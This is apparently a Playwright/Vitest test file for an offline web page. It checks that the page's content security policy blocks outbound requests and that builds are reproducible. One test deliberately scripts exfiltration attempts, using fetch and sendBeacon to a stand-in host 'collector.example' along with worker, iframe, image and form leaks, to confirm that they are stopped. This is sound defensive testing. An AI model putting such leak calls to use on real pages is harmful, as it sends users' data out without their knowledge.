import { createHash } from 'node:crypto'
import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { writeOffline } from '../../src/build/offline.mjs'
import { buildPage } from '../../src/build/page.mjs'
import { serveFolder } from '../../src/build/serve.mjs'
import { policy, predictions } from './cases.ts'
import { launch } from './chromium.ts'
import { listen, logNetwork, type Listener } from './network.ts'
import { openFiles, pageFile, pageFromDisk, siteFolder, untilState, visit } from './visit.ts'

describe('the built page', () => {
  test('carries its content policy ahead of every script and style', async () => {
    const html = await readFile(pageFile, 'utf8')
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html)
    expect(meta?.[1]).toMatch(
      /^default-src 'none'; script-src(?: 'sha256-[^']*'){3}; style-src 'sha256-[^']*'; img-src data: blob:; connect-src 'none'; worker-src 'self' blob:; manifest-src 'self'; base-uri 'none'; form-action 'none'$/,
    )
    expect(meta!.index).toBeLessThan(html.search(/<script|<style|<link/))
  })

  test('is the same bytes when built again, and so is what lies beside it', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'page-'))
    const { version } = JSON.parse(await readFile(new URL('../../package.json', import.meta.url), 'utf8'))
    await buildPage({ outDir: folder, version })
    await writeOffline({ siteFolder: folder })
    const sha256 = async (path: string) =>
      createHash('sha256')
        .update(await readFile(path))
        .digest('hex')
    for (const name of ['index.html', 'index.html.sha256', 'service-worker.js', 'manifest.webmanifest']) {
      expect(await sha256(join(folder, name)), name).toBe(await sha256(join(siteFolder, name)))
    }
    await rm(folder, { recursive: true })
  })

  test('is complete alone, in an empty folder with a name that needs escaping', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'alone # 100% '))
    await cp(pageFile, join(folder, 'index.html'))
    const browser = await launch()
    const { page, complaints, close } = await visit(browser, pathToFileURL(join(folder, 'index.html')).href)
    await page.click('[data-sample=too_little_data]')
    await untilState(page, 'done')
    expect(complaints).toEqual([])
    await close()
    await browser.close()
    await rm(folder, { recursive: true })
  })
})

/** The lock test's address, as the browser's log has it: refused. */
const ofLockTest = new Set(['https://example.com/?test'])

/** Everything that a person does here: samples, threshold, exports, a file of their own, roles, a policy, the lock test. */
async function wholeJourney(page: Page): Promise<void> {
  await page.click('[data-sample=fails_on_one_segment]')
  await untilState(page, 'done')
  await page.locator('input[type=range]').fill('0.3')
  await page.locator('[data-preview]').waitFor()
  const exports = page.locator('[data-export]:visible')
  for (let at = 0; at < (await exports.count()); at += 1) {
    await Promise.all([page.waitForEvent('download'), exports.nth(at).click()])
  }
  await openFiles(page, { 'predictions.csv': predictions() })
  await untilState(page, 'roles')
  await page.selectOption('[data-role=label]', 'outcome')
  await page.selectOption('[data-role=candidate]', 'prob')
  expect(await fieldNames(page)).not.toMatch(/outcome|prob|region|fold|predictions/)
  await page.click('[data-action=evaluate]')
  await untilState(page, 'done')
  await openFiles(page, { 'policy.yaml': policy })
  await page.locator('[data-verdict=pass]').waitFor()
  await page.click('[data-action=check]')
  await page.click('[data-action=test-lock]')
  await page.locator('[data-lock=locked]').waitFor()
}

/** What form fields are called: browsers send hashes of it to their makers, to know how to fill them in. */
function fieldNames(page: Page): Promise<string> {
  return page
    .locator('input, select, textarea, form')
    .evaluateAll((fields) =>
      fields
        .map((field) => `${field.id} ${field.getAttribute('name')} ${field.getAttribute('autocomplete')}`)
        .join('\n'),
    )
}

/** The manifest's text as the browser gets it by an address that a script has put in the page; '' where it gets none. */
async function withManifest(page: Page, address: string): Promise<string> {
  await page.evaluate((href) => {
    document.querySelector<HTMLLinkElement>('link[rel=manifest]')!.href = href
  }, address)
  const { data } = await (await page.context().newCDPSession(page)).send('Page.getAppManifest')
  return data ?? ''
}

describe('with a listener on every address', () => {
  let listener: Listener
  beforeAll(async () => {
    listener = await listen()
  })
  afterAll(() => listener?.close())

  test('from disk, a whole journey asks for nothing but the page’s file', async () => {
    const browser = await launch(listener.address)
    const context = await browser.newContext({ viewport: { width: 1280, height: 800 } })
    const log = await logNetwork(context)
    const page = await context.newPage()
    await page.goto(pageFromDisk)
    await wholeJourney(page)
    expect(log.requests.filter((url) => !log.blocked.includes(url))).toEqual([pageFromDisk])
    expect(new Set(log.blocked)).toEqual(ofLockTest)
    expect([listener.heard, await log.ungoverned()]).toEqual([[], []])
    await browser.close()
  })

  test('served from a sub-path, the page’s file, service worker and manifest, once, before there is any data; then nothing', async () => {
    const asked: string[] = []
    const site = await serveFolder(siteFolder, { base: '/some/dir/', onRequest: (line) => asked.push(line) })
    const browser = await launch(listener.address, new URL(site.url).host)
    const context = await browser.newContext({ viewport: { width: 1280, height: 800 } })
    const log = await logNetwork(context)
    const page = await context.newPage()
    await page.goto(site.url)
    await page.evaluate(async () => void (await navigator.serviceWorker.ready))
    const opening = ['/some/dir/', '/some/dir/', '/some/dir/manifest.webmanifest', '/some/dir/service-worker.js']
    expect([...asked].sort()).toEqual(opening.map((path) => `GET ${path}`))
    await wholeJourney(page)
    expect(asked).toHaveLength(opening.length)
    expect(
      log.requests
        .filter((url) => !log.blocked.includes(url))
        .map((url) => new URL(url).pathname)
        .sort(),
    ).toEqual(opening)
    expect(new Set(log.blocked)).toEqual(ofLockTest)
    expect([listener.heard, await log.ungoverned()]).toEqual([[], []])
    await browser.close()
    await site.close()
  })

  test('what a script tries to send, from the page or its address’s own host, is stopped', async () => {
    const asked: string[] = []
    const site = await serveFolder(siteFolder, { onRequest: (line) => asked.push(line) })
    const browser = await launch(listener.address, new URL(site.url).host)
    const { page, close } = await visit(browser, site.url)
    await page.evaluate(async () => void (await navigator.serviceWorker.ready))
    await openFiles(page, { 'predictions.csv': predictions() })
    await untilState(page, 'roles')
    const before = [...asked]
    const directives = ['connect-src', 'form-action', 'frame-src', 'img-src', 'worker-src']
    const stopped = await page.evaluate(async (expected) => {
      const violated: string[] = []
      document.addEventListener('securitypolicyviolation', (event) => violated.push(event.effectiveDirective))
      await fetch('http://collector.example/page').catch(() => undefined)
      await fetch('./?leak').catch(() => undefined)
      new Image().src = './?leak'
      navigator.sendBeacon('http://collector.example/beacon', 'x')
      new Worker('service-worker.js?leak').onerror = () => undefined
      new SharedWorker('service-worker.js?leak')
      await navigator.serviceWorker.register('service-worker.js?leak').catch(() => undefined)
      const nested = `try { new Worker('${location.href}service-worker.js?leak') } catch {} importScripts('${location.href}service-worker.js?leak')`
      new Worker(URL.createObjectURL(new Blob([nested])))
      const frame = document.createElement('iframe')
      frame.src = './?leak'
      document.body.append(frame)
      const form = document.createElement('form')
      form.action = './?leak'
      document.body.append(form)
      form.submit()
      const untilMs = performance.now() + 30_000
      while (performance.now() < untilMs && !expected.every((directive) => violated.includes(directive)))
        await new Promise((done) => setTimeout(done, 100))
      await new Promise((done) => setTimeout(done, 500))
      return violated
    }, directives)
    const manifest = await withManifest(page, 'manifest.webmanifest?leak')
    expect([...new Set(stopped)].sort()).toEqual(directives)
    expect([asked, listener.heard, manifest]).toEqual([before, [], ''])
    await close()
    await browser.close()
    await site.close()
  })

  test('the listener does hear a page without the policy: its silence means something', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'open-'))
    const html = await readFile(pageFile, 'utf8')
    await writeFile(join(folder, 'index.html'), html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''))
    const browser = await launch(listener.address)
    const { page, close } = await visit(browser, pathToFileURL(join(folder, 'index.html')).href)
    await page.evaluate(() => fetch('http://collector.example/open', { mode: 'no-cors' }).catch(() => undefined))
    await expect.poll(() => listener.heard.some((line) => line.includes('/open'))).toBe(true)
    await close()
    await browser.close()
    await rm(folder, { recursive: true })
  })
})

test('the address asks for an engine, and the page says which one computed', async () => {
  const browser = await launch()
  const { page, complaints, close } = await visit(browser, `${pageFromDisk}?engine=cpu`)
  await page.click('[data-sample=too_little_data]')
  await untilState(page, 'done')
  expect(await page.getAttribute('[data-engine]', 'data-engine')).toBe('cpu')
  expect(await page.getAttribute('[data-engine]', 'title')).not.toBe('')
  expect(complaints).toEqual([])
  await close()
  await browser.close()
})
